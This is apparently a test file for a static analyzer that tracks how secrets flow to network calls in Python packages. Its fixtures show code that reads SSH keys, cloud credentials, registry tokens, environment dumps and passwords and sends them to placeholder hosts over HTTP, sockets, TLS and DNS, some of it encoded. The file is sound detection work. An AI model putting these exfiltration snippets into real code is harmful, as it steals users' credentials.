import { describe, expect, it } from "vitest";
import { analyze, flowsOf } from "./helpers.js";

const KEY = `open(os.path.expanduser("~/.ssh/id_rsa")).read()`;

/** A module that reads the SSH key into `key` and runs `body` (which must send something at its last line). */
async function flows(body: string): Promise<string[]> {
  const facts = await analyze({ "pkg/__init__.py": `import os, json, base64, zlib, requests, socket, hashlib, hmac\nkey = ${KEY}\n${body}\n` });
  return flowsOf(facts);
}

describe("taint propagation", () => {
  it.each([
    ["assignment", `a = key\nb = a\nrequests.post("https://x.example.com", data=b)`],
    ["dict literal", `requests.post("https://x.example.com", json={"k": key})`],
    ["dict item store", `d = {}\nd["k"] = key\nrequests.post("https://x.example.com", json=d)`],
    ["list and append", `l = []\nl.append(key)\nrequests.post("https://x.example.com", data=l)`],
    ["tuple and set", `t = (1, {key})\nrequests.post("https://x.example.com", data=t)`],
    ["f-string", `requests.post("https://x.example.com", data=f"k={key}")`],
    ["percent format", `requests.post("https://x.example.com", data="k=%s" % key)`],
    ["str.format", `requests.post("https://x.example.com", data="k={}".format(key))`],
    ["url query string", `requests.get("https://x.example.com/?k=" + key)`],
    ["base64 + json + zlib", `requests.post("https://x.example.com", data=zlib.compress(json.dumps(base64.b64encode(key.encode())).encode()))`],
    ["hex", `requests.post("https://x.example.com", data=key.encode().hex())`],
    ["function parameter", `def send(v):\n    requests.post("https://x.example.com", data=v)\nsend(key)`],
    ["function return", `def get():\n    return ${KEY}\nrequests.post("https://x.example.com", data=get())`],
    ["raw socket", `s = socket.socket()\ns.connect(("203.0.113.1", 9))\ns.sendall(key.encode())`],
    ["TLS socket (ssl.wrap_socket)", `import ssl\ns = ssl.wrap_socket(socket.socket())\ns.connect(("203.0.113.1", 443))\ns.sendall(key.encode())`],
    ["TLS socket (context)", `import ssl\nctx = ssl.create_default_context()\ns = ctx.wrap_socket(socket.create_connection(("203.0.113.1", 443)), server_hostname="x.example.com")\ns.sendall(key.encode())`],
    ["asyncio stream writer", `import asyncio\nasync def go():\n    reader, writer = await asyncio.open_connection("203.0.113.1", 443, ssl=True)\n    writer.write(key.encode())`],
    ["DNS label", `socket.gethostbyname(key.encode().hex()[:60] + ".x.example.com")`],
  ])("%s", async (_name, body) => {
    const result = await flows(body);
    expect(result.length, result.join("\n")).toBeGreaterThan(0);
    expect(result.every((f) => f.startsWith("ssh-key@pkg/__init__.py:"))).toBe(true);
  });

  it("class fields: stored in one method, sent from another", async () => {
    const facts = await analyze({
      "pkg/agent.py": `
        import os, requests
        class Agent:
            def load(self):
                self.secret = open(os.path.expanduser("~/.aws/credentials")).read()
            def report(self):
                requests.post("https://collect.example.net/r", data=self.secret)
      `,
    });
    expect(flowsOf(facts)).toEqual(["cloud-credentials@pkg/agent.py:4 -> http@pkg/agent.py:6 https://collect.example.net/r [call]"]);
  });

  it("constructor argument stored on self reaches a sink in a method", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, requests
        class Client:
            def __init__(self, blob):
                self.blob = blob
            def flush(self):
                requests.post("https://collect.example.net/r", data=self.blob)
        c = Client(os.environ.copy())
        c.flush()
      `,
    });
    expect(flowsOf(facts)).toContain("env-dump@pkg/__init__.py:7 -> http@pkg/__init__.py:6 https://collect.example.net/r [import]");
  });

  it("environment: secret names, whole dumps, HOME-built paths", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import os, json, requests
        requests.post("https://a.example.com", data=os.environ["AWS_SECRET_ACCESS_KEY"])
        requests.post("https://b.example.com", data=os.getenv("PATH"))
        requests.post("https://c.example.com", data=json.dumps(dict(os.environ)))
        requests.post("https://d.example.com", data={k: v for k, v in os.environ.items()})
        requests.post("https://e.example.com", data=open(os.path.join(os.environ["HOME"], ".npmrc")).read())
      `,
    });
    expect(flowsOf(facts).map((f) => f.replace(/ -> .*? (\S+) \[.*$/, " $1"))).toEqual([
      "env-dump@pkg/__init__.py:4 https://c.example.com",
      "env-dump@pkg/__init__.py:5 https://d.example.com",
      "env-secret@pkg/__init__.py:2 https://a.example.com",
      "registry-token@pkg/__init__.py:6 https://e.example.com",
    ]);
  });

  it("pathlib and directory listing", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import glob, os, requests
        from pathlib import Path
        a = (Path.home() / ".ssh" / "id_ed25519").read_text()
        b = Path("~/.kube/config").expanduser().read_bytes()
        c = [open(p).read() for p in glob.glob(os.path.expanduser("~/.ssh/*"))]
        requests.post("https://x.example.com", data=[a, b, c])
      `,
    });
    expect(flowsOf(facts).map((f) => f.split(" ->")[0])).toEqual(["cloud-credentials@pkg/__init__.py:4", "ssh-key@pkg/__init__.py:3", "ssh-key@pkg/__init__.py:5"]);
  });

  it("hash and HMAC digests cut the taint", async () => {
    const result = await flows(
      `requests.post("https://x.example.com", data=hashlib.sha256(key.encode()).hexdigest())\nrequests.post("https://y.example.com", headers={"sig": hmac.new(key.encode(), b"m", hashlib.sha256).hexdigest()})`,
    );
    expect(result).toEqual([]);
  });

  it("getpass and keyring are sources", async () => {
    const facts = await analyze({
      "pkg/__init__.py": `
        import getpass, keyring, requests
        def go():
            pw = getpass.getpass("Password: ")
            tok = keyring.get_password("svc", "me")
            requests.post("https://x.example.com", data={"p": pw, "t": tok})
      `,
    });
    expect(flowsOf(facts).map((f) => f.split("@")[0]).sort()).toEqual(["keychain", "password-prompt"]);
  });
});
